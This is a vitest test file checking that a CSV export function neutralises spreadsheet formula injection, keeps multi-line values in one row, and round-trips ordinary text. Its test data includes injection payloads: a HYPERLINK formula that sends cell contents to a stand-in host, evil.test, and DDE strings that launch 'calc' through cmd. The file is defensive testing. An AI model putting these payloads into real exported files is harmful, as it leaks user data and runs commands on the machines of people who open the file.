import { describe, expect, it } from "vitest";

import { toCell, toCsv } from "./to-csv";

/** As RFC 4180 reads it, written independently of the writer. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let at = text.startsWith("\ufeff") ? 1 : 0; at < text.length; at++) {
    const [char, next] = [text[at], text[at + 1]];
    if (quoted && char === '"' && next === '"') {
      cell += '"';
      at++;
    } else if (char === '"') quoted = !quoted;
    else if (!quoted && (char === "," || char === "\n")) {
      rows.at(-1)?.push(cell.replace(/\r$/, ""));
      cell = "";
      if (char === "\n") rows.push([]);
    } else cell += char;
  }
  return rows.filter((row) => row.length > 0);
}

const formulas = [
  '=HYPERLINK("http://evil.test?"&A1,"click")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "|calc",
  "%0A=1",
];

describe("S45: a table for spreadsheets", () => {
  it.each(formulas)("takes %j for a text, never for a formula", (text) => {
    const [[cell = ""] = []] = readCsv(toCsv([text], []));
    expect(cell.startsWith("'")).toBe(true);
  });

  it.each(["a\r\nb", "a\nb", "a\rb", "a\u2028b", "a\u0085b", "a\vb"])("keeps %j in one row", (text) => {
    const rows = readCsv(toCsv(["name", "state"], [[text, "late"]]));
    expect(rows).toEqual([
      ["name", "state"],
      ["a b", "late"],
    ]);
  });

  it.each(['say "hi"', "a,b;c\\d", "עברית", "Zoë 🗓", " leading", "'quoted'"])("gives %j back as it was", (text) => {
    expect(readCsv(toCsv([text], []))).toEqual([[text]]);
  });

  it("leaves nothing where nothing is known, and figures as figures", () => {
    expect(toCell(null)).toBe("");
    expect(toCell(0)).toBe("0");
  });
});
